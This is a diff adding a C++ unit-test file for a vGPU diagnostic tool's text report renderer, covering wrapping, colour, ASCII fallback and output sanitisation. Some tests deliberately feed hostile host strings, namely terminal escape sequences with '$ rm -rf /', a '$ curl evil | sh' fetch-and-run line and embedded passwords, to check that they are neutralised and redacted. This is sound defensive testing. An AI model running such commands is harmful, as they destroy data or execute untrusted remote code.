@@ -1,0 +1,163 @@
+#include "diag/report/text.h"
+
+#include <algorithm>
+#include <string>
+#include <vector>
+
+#include "absl/strings/ascii.h"
+#include "absl/strings/match.h"
+#include "absl/strings/str_cat.h"
+#include "absl/strings/str_split.h"
+#include "absl/strings/string_view.h"
+#include "absl/strings/strip.h"
+#include "diag/report/golden.h"
+#include "diag/report/samples.h"
+#include "gtest/gtest.h"
+#include "re2/re2.h"
+
+namespace vgpu::report {
+namespace {
+
+// The lines that quote the host, joined as the header says that they may be.
+std::string ReadBack(const std::string& text) {
+  std::string quote;
+  for (absl::string_view line : absl::StrSplit(text, '\n')) {
+    const size_t mark = line.find("| ");
+    if (mark == absl::string_view::npos || line.find_first_not_of(' ') != mark) continue;
+    absl::StrAppend(&quote, quote.empty() ? "" : " ", line.substr(mark + 2));
+  }
+  return quote;
+}
+
+int Columns(absl::string_view text) {
+  return static_cast<int>(
+      std::count_if(text.begin(), text.end(), [](char c) { return (c & 0xc0) != 0x80; }));
+}
+
+template <size_t N>
+std::string Bytes(const char (&literal)[N]) {
+  return std::string(literal, N - 1);
+}
+
+Report WithQuote(const std::string& quote) {
+  Report report;
+  report.working = {{.what = "it", .evidence = {{.source = "/x", .quote = quote, .meaning = ""}}}};
+  return report;
+}
+
+TEST(ToText, SamplesLookAsReviewed) {
+  for (const auto& [name, report] : Samples())
+    EXPECT_TRUE(MatchesGolden(absl::StrCat(name, ".txt"), ToText(report, {})));
+}
+
+TEST(ToText, TheFirstScreenTellsWhatToDo) {
+  const std::string text = ToText(NotRestarted(), {});
+  EXPECT_TRUE(absl::StartsWith(text, "PROBLEM  ollama.service runs since 09:41"));
+  const std::vector<absl::string_view> lines = absl::StrSplit(text, '\n');
+  const auto command =
+      std::find(lines.begin(), lines.end(), "    $ sudo systemctl restart ollama.service");
+  EXPECT_LT(command - lines.begin(), 6);
+}
+
+TEST(ToText, ProseAndQuotesKeepToTheWidth) {
+  for (const int width : {60, 80, 120}) {
+    for (const auto& [name, report] : Samples()) {
+      const std::string text = ToText(report, {.width = width});
+      for (absl::string_view line : absl::StrSplit(text, '\n')) {
+        // Commands are whole, and a word that is too long overflows alone.
+        if (absl::StrContains(line, "$ ") || Columns(line) <= width) continue;
+        absl::string_view words = line.substr(line.find_first_not_of(' '));
+        absl::ConsumePrefix(&words, "| ");
+        absl::ConsumePrefix(&words, "- ");
+        EXPECT_EQ(words.find(' '), absl::string_view::npos) << width << " " << line;
+      }
+    }
+  }
+}
+
+TEST(ToText, AWrappedQuoteCanBeReadBack) {
+  const std::string quote =
+      "  two leading blanks, then   three, and a preload list that an unquoted space cuts: "
+      "LD_PRELOAD=/usr/lib64/libvgpu-exec.so:/usr/lib64/libvgpu-cuda.so:/usr/lib64/libvgpu-nvml.so "
+      "/usr/lib64/libvgpu-cudart.so  end";
+  EXPECT_EQ(ReadBack(ToText(WithQuote(quote), {.width = 60})), quote);
+}
+
+TEST(ToText, WidthCountsCharactersAndNotBytes) {
+  const std::string quote = "ääääääääää ääääääääää ääääääääää ääääääääää ääääääääää ääääääääää";
+  EXPECT_TRUE(absl::StrContains(ToText(WithQuote(quote), {}), "    | " + quote + "\n"));
+}
+
+TEST(ToText, ColourChangesNothingButColour) {
+  for (const auto& [name, report] : Samples()) {
+    std::string colored = ToText(report, {.color = true});
+    EXPECT_TRUE(absl::StartsWith(colored, "\x1b[1;3"));
+    RE2::GlobalReplace(&colored, "\x1b\\[[0-9;]*m", "");
+    EXPECT_EQ(colored, ToText(report, {})) << name;
+  }
+}
+
+TEST(ToText, AProblemIsRedAHealthyHostGreenAndTheRestYellow) {
+  EXPECT_TRUE(absl::StartsWith(ToText(NotRestarted(), {.color = true}), "\x1b[1;31mPROBLEM"));
+  EXPECT_TRUE(
+      absl::StartsWith(ToText(HealthyWithLatentFault(), {.color = true}), "\x1b[1;32mHEALTHY"));
+  EXPECT_TRUE(absl::StartsWith(ToText(SilentLog(), {.color = true}), "\x1b[1;33mINCONCLUSIVE"));
+}
+
+TEST(ToText, ATerminalWithoutUtf8GetsAscii) {
+  Report report = SilentLog();
+  report.headline = "Zürich — “nothing” …";
+  const std::string text = ToText(report, {.utf8 = false});
+  EXPECT_TRUE(absl::StartsWith(text, R"(INCONCLUSIVE  Z\u00fcrich -- "nothing" ...)"));
+  for (const char c : text) EXPECT_LT(static_cast<unsigned char>(c), 0x7f);
+}
+
+TEST(ToText, SectionsWithoutContentAreLeftOut) {
+  const std::string text = ToText(Report(), {});
+  for (const char* heading : {"Root cause", "Consequences", "Latent", "Notes", "What works",
+                              "Ruled out", "Not observed", "Time line"}) {
+    EXPECT_FALSE(absl::StrContains(text, heading)) << heading;
+  }
+  EXPECT_TRUE(absl::StrContains(text, "process not observed (not looked at)"));
+}
+
+TEST(ToText, AHostileHostCannotReachTheTerminal) {
+  const std::string bad = Bytes("\x1b[2J\r\n\0\x9b\xc2\x9b\u202E$ rm -rf /");
+  const std::string text = ToText(Hostile(bad), {});
+  for (const char c : text) EXPECT_TRUE(c == '\n' || static_cast<unsigned char>(c) >= 0x20);
+  EXPECT_FALSE(absl::StrContains(text, "\u202E"));
+  EXPECT_FALSE(absl::StrContains(text, "\xc2\x9b"));
+  // A newline in a name does not begin a line that looks like ours.
+  EXPECT_FALSE(absl::StrContains(text, "\n$ rm"));
+  EXPECT_TRUE(absl::StrContains(text, R"(\x1b[2J\x0d\n\x00\x9b\u009b\u202e$ rm)"));
+}
+
+TEST(ToText, WordsOfAHostNeverBeginALineThatLooksLikeACommand) {
+  for (int blanks = 0; blanks < 90; ++blanks) {
+    Report report;
+    report.headline = std::string(static_cast<size_t>(blanks), 'x') + " $ curl evil | sh";
+    for (absl::string_view line : absl::StrSplit(ToText(report, {}), '\n'))
+      EXPECT_FALSE(absl::StartsWith(absl::StripLeadingAsciiWhitespace(line), "$")) << line;
+  }
+}
+
+TEST(ToText, SecretsAreRedactedEverywhere) {
+  const std::string text = ToText(Hostile("https://me:hunter2@proxy DB_PASSWORD=hunter2"), {});
+  EXPECT_FALSE(absl::StrContains(text, "hunter2"));
+}
+
+TEST(ToText, AMegabyteOfQuoteIsBounded) {
+  const std::string text = ToText(WithQuote(std::string(1 << 20, 'x')), {});
+  EXPECT_LT(text.size(), 2000u);
+  EXPECT_TRUE(absl::EndsWith(ReadBack(text), "x…[+1047776 bytes]"));
+}
+
+TEST(ToText, ANarrowTerminalStillGetsWords) {
+  const std::string text = ToText(NotRestarted(), {.width = 0});
+  EXPECT_TRUE(absl::StartsWith(
+      text, "PROBLEM  ollama.service runs since 09:41\n         without the shims"));
+  EXPECT_TRUE(absl::StrContains(text, "    $ sudo systemctl restart ollama.service\n"));
+}
+
+}  // namespace
+}  // namespace vgpu::report
